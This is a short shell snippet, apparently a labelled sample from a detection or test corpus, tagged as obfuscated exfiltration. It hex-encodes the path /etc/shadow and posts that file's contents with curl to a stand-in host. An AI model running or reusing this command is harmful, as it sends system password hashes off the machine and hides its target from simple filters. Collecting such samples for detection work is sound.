# description: Posts /etc/shadow using a path written in hex escapes.
# family: exfiltration
# obfuscated: yes
f=$'\x2f\x65\x74\x63\x2f\x73\x68\x61\x64\x6f\x77'
curl -s --data-binary @"$f" https://example.com/c
